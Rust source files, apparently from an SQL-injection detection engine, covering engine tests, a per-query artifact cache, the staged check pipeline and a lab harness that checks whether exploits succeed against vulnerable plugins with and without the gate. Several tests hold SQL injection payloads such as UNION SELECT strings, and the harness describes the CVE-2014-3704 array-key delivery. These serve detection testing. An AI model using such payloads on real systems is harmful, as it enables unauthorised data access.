        let generation = j.deploy(ModelUpdate::new().taint_free_routes(["clean-route"])).unwrap();
        assert_eq!(generation, 1);

        // The pinned session still runs the dynamic pipeline…
        let v = pinned.check("SELECT * FROM records WHERE ID=1 LIMIT 5");
        assert_eq!(v.path(), CheckPath::Dynamic);
        assert_eq!(v.trace().generation(), 0);

        // …while a fresh session sees the whitelist.
        let fresh = j.session_for("clean-route");
        assert_eq!(fresh.generation(), 1);
        let v = fresh.check("SELECT * FROM records WHERE ID=1 LIMIT 5");
        assert_eq!(v.path(), CheckPath::StaticFastPath);
        assert_eq!(v.trace().generation(), 1);

        // Rollback restores dynamic checking for new sessions.
        assert_eq!(j.deploy(ModelUpdate::new().clear_taint_free_routes()).unwrap(), 2);
        let v = j.session_for("clean-route").check("SELECT 1");
        assert_eq!(v.path(), CheckPath::Dynamic);
    }

    #[test]
    fn check_batch_matches_sequential_checks_bit_for_bit() {
        let j = joza_with_models(JozaConfig::optimized());
        let k = joza_with_models(JozaConfig::optimized());
        let queries = [
            "SELECT * FROM records WHERE ID=42 LIMIT 5", // model fast path
            "SELECT * FROM records WHERE ID=42",         // dynamic, anomaly
            "SELECT * FROM records WHERE ID=-1 UNION SELECT 1 LIMIT 5", // attack
        ];

        let mut s = j.session_for("records");
        s.capture_input("id", "42");
        let batch: Vec<QueryCheck> = queries.iter().map(|q| QueryCheck::new(*q)).collect();
        let batched = s.check_batch(&batch);

        let mut s2 = k.session_for("records");
        s2.capture_input("id", "42");
        let sequential: Vec<Verdict> = queries.iter().map(|q| s2.check(q)).collect();

        assert_eq!(batched, sequential, "batch and per-query verdicts must be bit-identical");
        // Wall-clock counters naturally differ run to run; every logical
        // counter must not.
        let strip_times = |mut st: JozaStats| {
            st.nti_time = Duration::ZERO;
            st.pti_time = Duration::ZERO;
            st.stage_ns = [0; STAGE_COUNT];
            st
        };
        assert_eq!(
            strip_times(j.stats()),
            strip_times(k.stats()),
            "one batch flush must equal per-check flushes"
        );
        let st = j.stats();
        assert_eq!(st.model_fast_hits + st.static_hits + st.full_checks, st.queries);
        assert_eq!(st.queries, 3);
        assert_eq!(st.attacks, 1);
    }

    #[test]
    fn check_batch_per_query_inputs() {
        let j = joza();
        let s = j.session();
        let payload = "-1 UNION SELECT username()";
        let verdicts = s.check_batch(&[
            QueryCheck::new("SELECT * FROM records WHERE ID=7 LIMIT 5").with_input("7"),
            QueryCheck::new(format!("SELECT * FROM records WHERE ID={payload} LIMIT 5"))
                .with_input(payload),
        ]);
        assert!(verdicts[0].is_safe());
        assert!(!verdicts[1].is_safe());
        assert_eq!(j.stats().queries, 2);
        assert_eq!(j.stats().attacks, 1);
    }

    #[test]
    fn installer_validates_model_routes_against_app() {
        use joza_webapp::app::Plugin;
        let mut app = WebApp::new("t");
        app.add_plugin(Plugin::new("real-route", "1.0", r#"$q = "SELECT 1"; mysql_query($q);"#));

        let mut ix = QueryModelIndex::new();
        ix.insert("imaginary", RouteModel::build(&[Some(vec![])]));
        let err = Joza::installer(&app, JozaConfig::optimized())
            .query_models(ix)
            .try_build()
            .map(|_| ())
            .unwrap_err();
        assert_eq!(err, JozaBuildError::UnknownModelRoute("imaginary".to_string()));

        let mut ok = QueryModelIndex::new();
        ok.insert("real-route", RouteModel::build(&[Some(vec![])]));
        assert!(Joza::installer(&app, JozaConfig::optimized())
            .query_models(ok)
            .try_build()
            .is_ok());
    }

    #[test]
    fn factory_session_enforces_recovery_policy() {
        let j = joza();
        let attack = RawInput {
            source: joza_webapp::request::InputSource::Get,
            name: "id".to_string(),
            value: "-1 UNION SELECT 1".to_string(),
        };
        let mut s = GateFactory::session(&j, "route", std::slice::from_ref(&attack));
        assert_eq!(s.check("SELECT * FROM records WHERE ID=1 LIMIT 5"), GateDecision::Allow);
        assert_eq!(
            s.check("SELECT * FROM records WHERE ID=-1 UNION SELECT 1 LIMIT 5"),
            GateDecision::Terminate
        );
        drop(s);
        assert_eq!(j.stats().queries, 2);
        assert_eq!(j.stats().attacks, 1);

        let j2 = Joza::builder()
            .fragments(FRAGS)
            .config(JozaConfig {
                recovery: RecoveryPolicy::ErrorVirtualization,
                ..JozaConfig::optimized()
            })
            .build();
        let mut s = GateFactory::session(&j2, "route", &[]);
        assert_eq!(
            s.check("SELECT * FROM records WHERE ID=-1 UNION SELECT 1 LIMIT 5"),
            GateDecision::ErrorVirtualize
        );
    }
}
