//! Parse-once query artifacts shared by every pipeline stage.
//!
//! Before the pipeline refactor each detection path re-derived what it
//! needed from the raw query string: the model fast path re-lexed to render
//! a skeleton, NTI re-lexed for critical tokens and re-folded the bytes,
//! PTI re-lexed inside the analyzer and re-fingerprinted for the structure
//! cache. [`QueryArtifacts`] computes each derived form **once**, on first
//! demand, and hands out shared references for the rest of the check; a
//! stage that never runs never pays for the artifacts it alone would need.
//!
//! The struct lives on the stack of one `check` call and borrows the query
//! text, so its lifetime — and the cache's — is exactly one checked query.
//! Nothing here is shared across queries (cross-query caching remains the
//! job of the PTI query/structure caches).
//!
//! # Memory
//!
//! Every variable-length artifact fills a buffer leased from a
//! [`CheckArena`] ([`QueryArtifacts::new_in`]): the `Vec`s live in
//! `OnceCell`-wrapped [`Lease`]s, so dropping the artifacts at the end of
//! the check parks each buffer (cleared, capacity kept) for the next
//! check on the thread. The skeleton is a sequence of interned
//! [`SymId`]s, not strings — rendering it allocates nothing once the
//! query's vocabulary is in the symbol table, and the model automaton
//! matches it integer-by-integer. [`QueryArtifacts::new`] (no arena)
//! keeps identical semantics on detached heap buffers for tests and
//! one-off callers.

use crate::arena::CheckArena;
use joza_arena::Lease;
use joza_sqlparse::critical::{critical_tokens_into, CriticalPolicy};
use joza_sqlparse::fingerprint::{fingerprint_syms_with, render_skeleton_syms_into};
use joza_sqlparse::lexer::lex_into;
use joza_sqlparse::symbol::SymId;
use joza_sqlparse::token::Token;
use joza_strmatch::swar;
use std::cell::OnceCell;

/// The case-folded view of the query bytes: borrowed when no byte needs
/// changing (the common benign-path case), leased-and-folded otherwise.
#[derive(Debug)]
enum Folded<'q> {
    Borrowed(&'q [u8]),
    Owned(Lease<'q, u8>),
}

/// Lazily-computed derived forms of one checked query.
///
/// Each accessor computes its artifact on first call and returns the cached
/// value afterwards. Derivations chain: the skeleton is rendered from the
/// cached token stream, the fingerprint hashed from the cached skeleton.
#[derive(Debug)]
pub struct QueryArtifacts<'q> {
    query: &'q str,
    arena: Option<&'q CheckArena>,
    tokens: OnceCell<Lease<'q, Token>>,
    skeleton: OnceCell<Lease<'q, SymId>>,
    fingerprint: OnceCell<u64>,
    folded: OnceCell<Folded<'q>>,
    criticals: OnceCell<Lease<'q, Token>>,
}

impl<'q> QueryArtifacts<'q> {
    /// Wraps a query with an empty artifact cache on detached heap
    /// buffers (no recycling). Semantically identical to
    /// [`QueryArtifacts::new_in`]; the engine's check path always uses
    /// the arena flavour.
    pub fn new(query: &'q str) -> Self {
        QueryArtifacts {
            query,
            arena: None,
            tokens: OnceCell::new(),
            skeleton: OnceCell::new(),
            fingerprint: OnceCell::new(),
            folded: OnceCell::new(),
            criticals: OnceCell::new(),
        }
    }

    /// Wraps a query with an empty artifact cache whose buffers are
    /// leased from `arena` and parked back (capacity kept) when the
    /// artifacts drop at the end of the check.
    pub fn new_in(query: &'q str, arena: &'q CheckArena) -> Self {
        QueryArtifacts { arena: Some(arena), ..QueryArtifacts::new(query) }
    }

    /// The raw query text.
    pub fn query(&self) -> &'q str {
        self.query
    }

    /// The lexed token stream (`joza_sqlparse::lexer::lex`).
    pub fn tokens(&self) -> &[Token] {
        self.tokens.get_or_init(|| {
            let mut buf = self.arena.map_or_else(Lease::detached, |a| a.tokens.lease());
            lex_into(self.query, &mut buf);
            buf
        })
    }

    /// The uncollapsed symbol-skeleton rendering — the input the route
    /// models' automata match against ([`joza_sqlparse::template::RouteModel::accepts_syms`]).
    pub fn skeleton(&self) -> &[SymId] {
        self.skeleton.get_or_init(|| {
            let mut buf = self.arena.map_or_else(Lease::detached, |a| a.skeleton.lease());
            render_skeleton_syms_into(self.query, self.tokens(), &mut buf);
            buf
        })
    }

    /// The structural fingerprint (collapsed-skeleton hash) used by the
    /// PTI structure cache. The collapse scratch is leased only for the
    /// duration of the hash.
    pub fn fingerprint(&self) -> u64 {
        *self.fingerprint.get_or_init(|| {
            let mut scratch = self.arena.map_or_else(Lease::detached, |a| a.collapse.lease());
            fingerprint_syms_with(self.skeleton(), &mut scratch)
        })
    }

    /// The query bytes in NTI's match normalization: case-folded when
    /// `normalize` is set, the raw bytes otherwise.
    ///
    /// The flag is fixed per engine (it comes from the one `NtiConfig`),
    /// so the first call's choice is cached for the whole check.
    pub fn normalized(&self, normalize: bool) -> &[u8] {
        let folded = self.folded.get_or_init(|| {
            let bytes = self.query.as_bytes();
            match swar::first_ascii_upper(bytes) {
                Some(first) if normalize => {
                    let mut buf = self.arena.map_or_else(Lease::detached, |a| a.folded.lease());
                    buf.extend_from_slice(&bytes[..first]);
                    swar::fold_lower_into(&bytes[first..], &mut buf);
                    Folded::Owned(buf)
                }
                _ => Folded::Borrowed(bytes),
            }
        });
        match folded {
            Folded::Borrowed(b) => b,
            Folded::Owned(l) => l,
        }
    }

    /// The query's critical tokens under `policy`.
    ///
    /// Cached under the first caller's policy — in the engine only NTI
    /// reads this accessor (PTI derives criticals inside its analyzer from
    /// the shared [`QueryArtifacts::tokens`] stream), so the cache never
    /// sees two policies in one check.
    pub fn criticals(&self, policy: &CriticalPolicy) -> &[Token] {
        self.criticals.get_or_init(|| {
            let mut buf = self.arena.map_or_else(Lease::detached, |a| a.criticals.lease());
            critical_tokens_into(self.query, self.tokens(), policy, &mut buf);
            buf
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use joza_sqlparse::critical::critical_tokens;
    use joza_sqlparse::fingerprint::{fingerprint, raw_skeleton_syms};
    use joza_sqlparse::lexer::lex;
    use joza_strmatch::normalize::to_lower;

    #[test]
    fn artifacts_agree_with_direct_computation() {
        let q = "SELECT * FROM records WHERE ID=42 LIMIT 5";
        let a = QueryArtifacts::new(q);
        assert_eq!(a.tokens(), lex(q).as_slice());
        assert_eq!(a.skeleton(), raw_skeleton_syms(q).as_slice());
        assert_eq!(a.fingerprint(), fingerprint(q));
        assert_eq!(a.normalized(true), to_lower(q.as_bytes()).as_ref());
        let policy = CriticalPolicy::default();
        assert_eq!(a.criticals(&policy), critical_tokens(q, &lex(q), &policy).as_slice());
    }

    #[test]
    fn accessors_are_idempotent() {
        let a = QueryArtifacts::new("SELECT 1");
        let fp1 = a.fingerprint();
        let t1 = a.tokens().len();
        assert_eq!(a.fingerprint(), fp1);
        assert_eq!(a.tokens().len(), t1);
        // The unnormalized variant sticks after the first call.
        let b = QueryArtifacts::new("SELECT A");
        assert_eq!(b.normalized(false), b"SELECT A");
        assert_eq!(b.normalized(true), b"SELECT A");
    }

    #[test]
    fn arena_backed_artifacts_match_heap_backed() {
        let arena = CheckArena::new();
        let queries = [
            "SELECT * FROM records WHERE ID=42 LIMIT 5",
            "INSERT INTO t (a,b) VALUES (1,'x'),(2,'y')",
            "SELECT * FROM r WHERE ID=-1 UNION SELECT username()-- -",
            "",
        ];
        let policy = CriticalPolicy::default();
        for q in queries {
            let heap = QueryArtifacts::new(q);
            let arenad = QueryArtifacts::new_in(q, &arena);
            assert_eq!(arenad.tokens(), heap.tokens(), "{q}");
            assert_eq!(arenad.skeleton(), heap.skeleton(), "{q}");
            assert_eq!(arenad.fingerprint(), heap.fingerprint(), "{q}");
            assert_eq!(arenad.normalized(true), heap.normalized(true), "{q}");
            assert_eq!(arenad.criticals(&policy), heap.criticals(&policy), "{q}");
        }
    }

    #[test]
    fn drop_parks_buffers_for_the_next_check() {
        let arena = CheckArena::new();
        let q = "SELECT * FROM records WHERE Name='UPPER' AND ID=7";
        {
            let a = QueryArtifacts::new_in(q, &arena);
            let _ = a.fingerprint();
            let _ = a.normalized(true);
            let _ = a.criticals(&CriticalPolicy::default());
        }
        for (name, cap) in [
            ("tokens", arena.tokens.parked_capacity()),
            ("skeleton", arena.skeleton.parked_capacity()),
            ("collapse", arena.collapse.parked_capacity()),
            ("folded", arena.folded.parked_capacity()),
            ("criticals", arena.criticals.parked_capacity()),
        ] {
            assert!(cap > 0, "{name} buffer was not parked");
        }
        // The next artifact's buffers come back with capacity.
        let a = QueryArtifacts::new_in(q, &arena);
        let _ = a.fingerprint();
    }
}
