//! Parse-once query artifacts shared by every pipeline stage.
//!
//! Before the pipeline refactor each detection path re-derived what it
//! needed from the raw query string: the model fast path re-lexed to render
//! a skeleton, NTI re-lexed for critical tokens and re-folded the bytes,
//! PTI re-lexed inside the analyzer and re-fingerprinted for the structure
//! cache. [`QueryArtifacts`] computes each derived form **once**, on first
//! demand, and hands out shared references for the rest of the check; a
//! stage that never runs never pays for the artifacts it alone would need.
//!
//! The struct lives on the stack of one `check` call and borrows the query
//! text, so its lifetime — and the cache's — is exactly one checked query.
//! Nothing here is shared across queries (cross-query caching remains the
//! job of the PTI query/structure caches).

use joza_sqlparse::critical::{critical_tokens, CriticalPolicy};
use joza_sqlparse::fingerprint::{fingerprint_of, render_skeleton};
use joza_sqlparse::lexer::lex;
use joza_sqlparse::token::Token;
use joza_strmatch::normalize::to_lower;
use std::borrow::Cow;
use std::cell::OnceCell;

/// Lazily-computed derived forms of one checked query.
///
/// Each accessor computes its artifact on first call and returns the cached
/// value afterwards. Derivations chain: the skeleton is rendered from the
/// cached token stream, the fingerprint hashed from the cached skeleton.
#[derive(Debug)]
pub struct QueryArtifacts<'q> {
    query: &'q str,
    tokens: OnceCell<Vec<Token>>,
    skeleton: OnceCell<Vec<String>>,
    fingerprint: OnceCell<u64>,
    folded: OnceCell<Cow<'q, [u8]>>,
    criticals: OnceCell<Vec<Token>>,
}

impl<'q> QueryArtifacts<'q> {
    /// Wraps a query with an empty artifact cache.
    pub fn new(query: &'q str) -> Self {
        QueryArtifacts {
            query,
            tokens: OnceCell::new(),
            skeleton: OnceCell::new(),
            fingerprint: OnceCell::new(),
            folded: OnceCell::new(),
            criticals: OnceCell::new(),
        }
    }

    /// The raw query text.
    pub fn query(&self) -> &'q str {
        self.query
    }

    /// The lexed token stream (`joza_sqlparse::lexer::lex`).
    pub fn tokens(&self) -> &[Token] {
        self.tokens.get_or_init(|| lex(self.query))
    }

    /// The uncollapsed skeleton token rendering — the input the route
    /// models' automata match against.
    pub fn skeleton(&self) -> &[String] {
        self.skeleton.get_or_init(|| render_skeleton(self.query, self.tokens()))
    }

    /// The structural fingerprint (collapsed-skeleton hash) used by the
    /// PTI structure cache.
    pub fn fingerprint(&self) -> u64 {
        *self.fingerprint.get_or_init(|| fingerprint_of(self.skeleton()))
    }

    /// The query bytes in NTI's match normalization: case-folded when
    /// `normalize` is set, the raw bytes otherwise.
    ///
    /// The flag is fixed per engine (it comes from the one `NtiConfig`),
    /// so the first call's choice is cached for the whole check.
    pub fn normalized(&self, normalize: bool) -> &[u8] {
        self.folded.get_or_init(|| {
            if normalize {
                to_lower(self.query.as_bytes())
            } else {
                Cow::Borrowed(self.query.as_bytes())
            }
        })
    }

    /// The query's critical tokens under `policy`.
    ///
    /// Cached under the first caller's policy — in the engine only NTI
    /// reads this accessor (PTI derives criticals inside its analyzer from
    /// the shared [`QueryArtifacts::tokens`] stream), so the cache never
    /// sees two policies in one check.
    pub fn criticals(&self, policy: &CriticalPolicy) -> &[Token] {
        self.criticals.get_or_init(|| critical_tokens(self.query, self.tokens(), policy))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use joza_sqlparse::fingerprint::fingerprint;

    #[test]
    fn artifacts_agree_with_direct_computation() {
        let q = "SELECT * FROM records WHERE ID=42 LIMIT 5";
        let a = QueryArtifacts::new(q);
        assert_eq!(a.tokens(), lex(q).as_slice());
        assert_eq!(a.fingerprint(), fingerprint(q));
        assert_eq!(a.normalized(true), to_lower(q.as_bytes()).as_ref());
        let policy = CriticalPolicy::default();
        assert_eq!(a.criticals(&policy), critical_tokens(q, &lex(q), &policy).as_slice());
    }

    #[test]
    fn accessors_are_idempotent() {
        let a = QueryArtifacts::new("SELECT 1");
        let fp1 = a.fingerprint();
        let t1 = a.tokens().len();
        assert_eq!(a.fingerprint(), fp1);
        assert_eq!(a.tokens().len(), t1);
        // The unnormalized variant sticks after the first call.
        let b = QueryArtifacts::new("SELECT A");
        assert_eq!(b.normalized(false), b"SELECT A");
        assert_eq!(b.normalized(true), b"SELECT A");
    }
}
