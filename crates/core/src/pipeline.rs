//! The staged check pipeline (DESIGN.md §9).
//!
//! Every query checked by the engine runs through one fixed sequence of
//! `CheckStage`s assembled at build time from the [`JozaConfig`]:
//!
//! 1. **Static fast path** — the route was proven taint-free by the static
//!    analyzer: allow without further work.
//! 2. **Model fast path** — the route's static query model accepts the
//!    query skeleton: allow without running the dynamic detectors.
//! 3. **NTI** — negative taint inference over the captured raw inputs
//!    (pure over shared state; runs outside any lock).
//! 4. **PTI** — positive taint inference on the calling worker's shard.
//! 5. **Structural** — record the structural-anomaly signal when a
//!    *complete* model rejected the skeleton.
//!
//! A stage either lets the query continue or **short-circuits safe**; the
//! dynamic detectors never short-circuit each other (both verdicts are
//! needed for [`Detector::Both`] fusion). Each stage records its outcome in
//! the verdict's [`StageTrace`] — the uniform provenance that replaces the
//! old ad-hoc `CheckPath` plumbing — and its wall-clock cost in the
//! per-stage `stage_ns` breakdown.
//!
//! [`JozaConfig`]: crate::JozaConfig
//! [`Detector::Both`]: crate::Detector::Both

use crate::artifacts::QueryArtifacts;
use crate::{Joza, RouteModel};
use joza_pti::daemon::{DaemonMode, PreparedSql};
use joza_strmatch::qgram::QgramProfile;
use std::time::Instant;

/// Number of pipeline stages (the length of every per-stage array).
pub const STAGE_COUNT: usize = 5;

/// Identity of one pipeline stage, in execution order.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum StageId {
    /// Route proven taint-free by static analysis.
    StaticFastPath = 0,
    /// Static query model accepted the skeleton.
    ModelFastPath = 1,
    /// Negative taint inference.
    Nti = 2,
    /// Positive taint inference.
    Pti = 3,
    /// Structural-anomaly signal from a complete model.
    Structural = 4,
}

impl StageId {
    /// All stages, in execution order.
    pub const ALL: [StageId; STAGE_COUNT] = [
        StageId::StaticFastPath,
        StageId::ModelFastPath,
        StageId::Nti,
        StageId::Pti,
        StageId::Structural,
    ];

    /// The stage's index into per-stage arrays.
    pub fn index(self) -> usize {
        self as usize
    }

    /// A stable snake_case name (used as the bench-report key).
    pub fn name(self) -> &'static str {
        match self {
            StageId::StaticFastPath => "static_fast_path",
            StageId::ModelFastPath => "model_fast_path",
            StageId::Nti => "nti",
            StageId::Pti => "pti",
            StageId::Structural => "structural",
        }
    }
}

/// What one stage did for one query.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum StageStatus {
    /// The stage did not run: it was not assembled into the pipeline, its
    /// precondition was absent (no model for the route), or an earlier
    /// stage short-circuited the check.
    #[default]
    Skipped,
    /// The stage ran and passed the query onward.
    Passed,
    /// The stage ran and answered *safe* for the whole check; later
    /// stages were skipped.
    ShortCircuited,
    /// The stage ran and raised its signal (a detector flagged an attack,
    /// or the structural stage flagged an anomaly).
    Fired,
}

/// Per-stage provenance of one verdict: the status of every pipeline
/// stage for the checked query, plus the generation of the deployment
/// (model index + taint-free whitelist release) that served it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct StageTrace {
    stages: [StageStatus; STAGE_COUNT],
    generation: u64,
}

impl StageTrace {
    /// The recorded status of `stage`.
    pub fn status(&self, stage: StageId) -> StageStatus {
        self.stages[stage.index()]
    }

    /// Whether `stage` ran at all for this query.
    pub fn ran(&self, stage: StageId) -> bool {
        self.status(stage) != StageStatus::Skipped
    }

    /// The deployment generation this query was checked under: `0` for
    /// the engine as built, incremented by every successful
    /// `Joza::deploy`. Part of the verdict's provenance — it answers
    /// "*which* model release produced this verdict" under live
    /// hot-swapping.
    pub fn generation(&self) -> u64 {
        self.generation
    }

    pub(crate) fn for_generation(generation: u64) -> StageTrace {
        StageTrace { generation, ..StageTrace::default() }
    }

    pub(crate) fn set(&mut self, stage: StageId, status: StageStatus) {
        self.stages[stage.index()] = status;
    }
}

/// Flow control returned by a stage.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum StageOutcome {
    /// Continue with the next stage.
    Continue,
    /// The query is safe; skip the remaining stages.
    ShortCircuitSafe,
}

/// Mutable context threaded through the stages of one check.
pub(crate) struct CheckCx<'a, 'q> {
    pub route: Option<&'a str>,
    pub model: Option<&'a RouteModel>,
    /// The taint-free whitelist of the deployment serving this check
    /// (stages must not read it off the engine: the engine's current
    /// deployment may already be newer than the session's pinned one).
    pub taint_free: Option<&'a std::collections::BTreeSet<String>>,
    pub inputs: &'a [&'a str],
    pub artifacts: &'a QueryArtifacts<'q>,
    /// The calling thread's check arena; stages lease scratch buffers
    /// (e.g. NTI's per-input fold buffer) from it.
    pub arena: &'a crate::arena::CheckArena,
    pub nti_attack: Option<bool>,
    pub pti_attack: Option<bool>,
    pub structural_anomaly: bool,
    pub trace: StageTrace,
    pub stage_ns: [u64; STAGE_COUNT],
}

/// One stage of the check pipeline.
pub(crate) trait CheckStage: Send + Sync {
    fn id(&self) -> StageId;
    fn run(&self, joza: &Joza, cx: &mut CheckCx<'_, '_>) -> StageOutcome;
}

/// The fixed stage sequence one engine drives for every checked query.
///
/// Assembled once by the builder: stages whose subsystem is disabled or
/// absent (no taint-free set, no models, `disable_nti`/`disable_pti`) are
/// left out entirely, so their trace slots stay [`StageStatus::Skipped`]
/// at zero runtime cost.
pub(crate) struct CheckPipeline {
    stages: Vec<Box<dyn CheckStage>>,
}

impl std::fmt::Debug for CheckPipeline {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let names: Vec<_> = self.stages.iter().map(|s| s.id().name()).collect();
        f.debug_struct("CheckPipeline").field("stages", &names).finish()
    }
}

impl CheckPipeline {
    /// Assembles the pipeline for a configuration.
    pub(crate) fn assemble(
        has_taint_free: bool,
        has_models: bool,
        disable_nti: bool,
        disable_pti: bool,
    ) -> Self {
        let mut stages: Vec<Box<dyn CheckStage>> = Vec::with_capacity(STAGE_COUNT);
        if has_taint_free {
            stages.push(Box::new(StaticFastPathStage));
        }
        if has_models {
            stages.push(Box::new(ModelFastPathStage));
        }
        if !disable_nti {
            stages.push(Box::new(NtiStage));
        }
        if !disable_pti {
            stages.push(Box::new(PtiStage));
        }
        if has_models {
            stages.push(Box::new(StructuralStage));
        }
        CheckPipeline { stages }
    }

    /// Runs every stage in order, timing each, until one short-circuits.
    pub(crate) fn run(&self, joza: &Joza, cx: &mut CheckCx<'_, '_>) {
        for stage in &self.stages {
            let t0 = Instant::now();
            let outcome = stage.run(joza, cx);
            cx.stage_ns[stage.id().index()] += t0.elapsed().as_nanos() as u64;
            if outcome == StageOutcome::ShortCircuitSafe {
                break;
            }
        }
    }
}

/// Stage 1: allow routes the static taint analyzer proved taint-free.
struct StaticFastPathStage;

impl CheckStage for StaticFastPathStage {
    fn id(&self) -> StageId {
        StageId::StaticFastPath
    }

    fn run(&self, _joza: &Joza, cx: &mut CheckCx<'_, '_>) -> StageOutcome {
        let Some(set) = cx.taint_free else {
            return StageOutcome::Continue;
        };
        if cx.route.is_some_and(|r| set.contains(r)) {
            cx.trace.set(StageId::StaticFastPath, StageStatus::ShortCircuited);
            StageOutcome::ShortCircuitSafe
        } else {
            cx.trace.set(StageId::StaticFastPath, StageStatus::Passed);
            StageOutcome::Continue
        }
    }
}

/// Stage 2: allow skeletons the route's static query model accepts.
///
/// A skeleton the automaton accepts confines every dynamic value to a
/// single data literal, so no token-level injection can be present — the
/// dynamic detectors are skipped entirely (see DESIGN.md §8 for the
/// soundness argument).
struct ModelFastPathStage;

impl CheckStage for ModelFastPathStage {
    fn id(&self) -> StageId {
        StageId::ModelFastPath
    }

    fn run(&self, _joza: &Joza, cx: &mut CheckCx<'_, '_>) -> StageOutcome {
        let Some(m) = cx.model else {
            return StageOutcome::Continue;
        };
        if m.accepts_syms(cx.artifacts.skeleton()) {
            cx.trace.set(StageId::ModelFastPath, StageStatus::ShortCircuited);
            StageOutcome::ShortCircuitSafe
        } else {
            cx.trace.set(StageId::ModelFastPath, StageStatus::Passed);
            StageOutcome::Continue
        }
    }
}

/// Stage 3: negative taint inference. Pure over shared engine state — no
/// lock is taken, so N workers run their edit-distance passes in parallel.
struct NtiStage;

impl CheckStage for NtiStage {
    fn id(&self) -> StageId {
        StageId::Nti
    }

    fn run(&self, joza: &Joza, cx: &mut CheckCx<'_, '_>) -> StageOutcome {
        let artifacts = cx.artifacts;
        let nti_cfg = &joza.config.nti;
        let view = joza_nti::QueryView {
            query: artifacts.query(),
            criticals: artifacts.criticals(&nti_cfg.critical),
            normalized: artifacts.normalized(nti_cfg.normalize_case),
        };
        // The profile borrows the artifact bytes, so it lives on this
        // stage frame rather than in the cache — still built at most once
        // per checked query, because this stage runs at most once.
        let profile = nti_cfg.qgram_prefilter.then(|| QgramProfile::new(view.normalized, 3));
        let mut fold = cx.arena.lease_input_fold();
        let report = joza.nti.analyze_view_with(cx.inputs, view, profile.as_ref(), &mut fold);
        let attack = report.is_attack();
        cx.nti_attack = Some(attack);
        cx.trace.set(StageId::Nti, if attack { StageStatus::Fired } else { StageStatus::Passed });
        StageOutcome::Continue
    }
}

/// Stage 4: positive taint inference on the calling worker's shard. The
/// shard lock is held only for the PTI call itself.
struct PtiStage;

impl CheckStage for PtiStage {
    fn id(&self) -> StageId {
        StageId::Pti
    }

    fn run(&self, joza: &Joza, cx: &mut CheckCx<'_, '_>) -> StageOutcome {
        let artifacts = cx.artifacts;
        // Only the in-process deployment can reuse the artifacts: the
        // daemon modes ship the raw query over the pipe protocol and
        // re-lex daemon-side, exactly like the paper's deployment. The
        // fingerprint is only derived when the structure cache will
        // consult it.
        let prep = (joza.config.pti.mode == DaemonMode::InProcess).then(|| PreparedSql {
            tokens: artifacts.tokens(),
            fingerprint: joza.config.pti.structure_cache.then(|| artifacts.fingerprint()),
        });
        let decision = joza.shard().lock().check_prepared(artifacts.query(), prep);
        let attack = !decision.safe;
        cx.pti_attack = Some(attack);
        cx.trace.set(StageId::Pti, if attack { StageStatus::Fired } else { StageStatus::Passed });
        StageOutcome::Continue
    }
}

/// Stage 5: the structural-anomaly signal. Reached only when the model
/// fast path did not short-circuit, so a *complete* model reaching this
/// stage has by construction rejected the skeleton.
struct StructuralStage;

impl CheckStage for StructuralStage {
    fn id(&self) -> StageId {
        StageId::Structural
    }

    fn run(&self, _joza: &Joza, cx: &mut CheckCx<'_, '_>) -> StageOutcome {
        if cx.model.is_some_and(|m| m.complete) {
            cx.structural_anomaly = true;
            cx.trace.set(StageId::Structural, StageStatus::Fired);
        }
        StageOutcome::Continue
    }
}
