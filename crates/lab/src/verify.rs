//! Exploit verification and attack harness.
//!
//! An exploit only counts if it *works*: running it against the
//! unprotected application must produce the observable effect of its
//! class (a leaked secret, a boolean differential, a timing
//! differential). The security-evaluation binaries use the same helpers
//! with a Joza gate installed to decide "detected / not detected".

use crate::corpus::{Exploit, VulnPlugin};
use joza_webapp::gate::GateFactory;
use joza_webapp::request::HttpRequest;
use joza_webapp::server::{Response, Server};

/// Builds the request delivering `value` to the plugin's vulnerable
/// parameter.
///
/// For [array-key plugins](VulnPlugin::payload_in_array_key) (the Drupal
/// expandArguments channel), `value` travels as the *key* of the second
/// array element — `ids[0]=1&ids[VALUE]=2` — matching the public
/// CVE-2014-3704 proof of concept.
pub fn request_for(plugin: &VulnPlugin, value: &str) -> HttpRequest {
    let req = if plugin.via_post {
        HttpRequest::post(&plugin.slug)
    } else {
        HttpRequest::get(&plugin.slug)
    };
    if plugin.payload_in_array_key {
        req.param(&format!("{}[0]", plugin.param), "1")
            .param(&format!("{}[{}]", plugin.param, value), "2")
    } else {
        req.param(&plugin.param, value)
    }
}

/// Runs the plugin unprotected with the given parameter value.
pub fn run_plain(server: &mut Server, plugin: &VulnPlugin, value: &str) -> Response {
    server.handle(&request_for(plugin, value))
}

/// Runs the plugin behind a protection engine: every query of the request
/// goes through a gate session opened on `factory`.
pub fn run_gated(
    server: &mut Server,
    plugin: &VulnPlugin,
    value: &str,
    factory: &dyn GateFactory,
) -> Response {
    server.handle_with(&request_for(plugin, value), factory)
}

/// Verifies that the plugin's shipped exploit works against the
/// *unprotected* application.
pub fn verify_exploit(server: &mut Server, plugin: &VulnPlugin) -> bool {
    exploit_effect_observed(server, plugin, &plugin.exploit, None)
}

/// Checks whether an exploit's observable effect occurs, optionally behind
/// a gate. With a gate installed, a return of `false` means the defense
/// *prevented* the attack.
pub fn exploit_effect_observed(
    server: &mut Server,
    plugin: &VulnPlugin,
    exploit: &Exploit,
    gate: Option<&dyn GateFactory>,
) -> bool {
    let mut run = |value: &str| -> Response {
        match gate {
            Some(f) => run_gated(server, plugin, value, f),
            None => run_plain(server, plugin, value),
        }
    };
    match exploit {
        Exploit::Leak { payload, leak_marker } => {
            let attacked = run(payload);
            attacked.body.contains(leak_marker)
        }
        Exploit::BooleanDiff { true_payload, false_payload } => {
            let t = run(true_payload);
            let f = run(false_payload);
            // Both must complete as normal pages (a blocked/blank page is
            // not a usable oracle) and differ observably.
            !t.blocked && !f.blocked && t.body != f.body
        }
        Exploit::TimingDiff { slow_payload, fast_payload, min_delay_ms } => {
            let s = run(slow_payload);
            let f = run(fast_payload);
            !s.blocked && !f.blocked && s.db_time_ms.saturating_sub(f.db_time_ms) >= *min_delay_ms
        }
    }
}

/// Whether a gate *detects* the plugin's primary exploit payload: the gate
/// reports at least one non-allowed decision during the attack request.
pub fn attack_detected(
    server: &mut Server,
